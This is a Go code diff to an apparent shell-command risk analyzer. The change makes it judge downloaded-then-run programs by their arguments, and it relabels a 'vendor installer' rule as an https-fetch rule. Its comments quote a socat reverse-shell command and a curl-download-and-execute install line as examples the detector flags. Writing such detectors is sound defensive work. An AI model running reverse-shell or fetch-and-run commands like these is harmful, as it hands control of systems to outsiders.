@@ -128,7 +128,16 @@ func (a *analyzer) defined(argv []string, line string) bool {
 		return true
 	}
 	if strings.Contains(name, "/") {
-		return a.runScript(name, "sh", line)
+		if !a.runScript(name, "sh", line) {
+			return false
+		}
+		if a.fetched[a.fileKey(name)] && base(name) != "" {
+			// A program downloaded on the line and run is also judged by what its name
+			// and arguments ask of it (`/tmp/socat exec:'bash -li' tcp:IP:PORT`, a static
+			// socat fetched over https: a reverse shell whatever its source; det46).
+			a.command(append([]string{base(name)}, argv[1:]...))
+		}
+		return true
 	}
 	return false
 }
@@ -144,12 +153,12 @@ func (a *analyzer) runScript(f, lang, line string) bool {
 	}
 	k := a.fileKey(f)
 	if a.fetched[k] {
-		if a.vendorFile[k] {
-			// A vendor's installer saved, then run (`curl -fsSL -o get_helm.sh
-			// https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 && chmod
-			// 700 get_helm.sh && ./get_helm.sh`, Helm's documented install): what the same
-			// script piped into sh is, a question; text the line adds to it is judged too.
-			a.ask("exec/vendor_installer", "runs a vendor's installer downloaded from its own host", line, 0.9)
+		if a.httpsFile[k] {
+			// A script fetched over https from a named host saved, then run (`curl -fsSL -o
+			// get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3
+			// && chmod 700 get_helm.sh && ./get_helm.sh`, Helm's documented install): what the
+			// same script piped into sh is, a question; text the line adds to it is judged too.
+			a.ask("exec/https_script", "runs a file fetched over https from a named host", line, 0.9)
 			if text, ok := a.written[k]; ok && lang == "sh" {
 				a.line(text, a.depth+1)
 			}
@@ -175,9 +184,9 @@ func (a *analyzer) runScript(f, lang, line string) bool {
 // download command writes itself (curl -o, wget -O).
 func (a *analyzer) writes(argv []string, redirs []*syntax.Redirect) {
 	name := base(first(unwrap(argv)))
-	vendor := fetcher(name) && vendorInstaller(unwrap(argv)[1:])
+	https := fetcher(name) && httpsFetch(name, unwrap(argv)[1:])
 	for _, f := range fetchedFiles(name, argv[1:]) {
-		a.markFetched(f, vendor)
+		a.markFetched(f, https)
 	}
 	var text string
 	have := false
@@ -207,7 +216,7 @@ func (a *analyzer) writes(argv []string, redirs []*syntax.Redirect) {
 	}
 	for _, t := range targets {
 		if fetcher(name) {
-			a.markFetched(t, vendor)
+			a.markFetched(t, https)
 			continue
 		}
 		if !have {
@@ -223,16 +232,15 @@ func (a *analyzer) writes(argv []string, redirs []*syntax.Redirect) {
 	}
 }
 
-// markFetched records that the line downloads into f; vendor says the download is a vendor's
-// installer from its own https host (vendorInstaller). A file is the vendor's only while
-// every download into it is.
-func (a *analyzer) markFetched(f string, vendor bool) {
+// markFetched records that the line downloads into f; https says the download is over https
+// from a named host (httpsFetch). A file counts as such only while every download into it does.
+func (a *analyzer) markFetched(f string, https bool) {
 	if a.fetched == nil {
 		a.fetched = map[string]bool{}
-		a.vendorFile = map[string]bool{}
+		a.httpsFile = map[string]bool{}
 	}
 	k := a.fileKey(f)
-	a.vendorFile[k] = vendor && (a.vendorFile[k] || !a.fetched[k])
+	a.httpsFile[k] = https && (a.httpsFile[k] || !a.fetched[k])
 	a.fetched[k] = true
 }
 
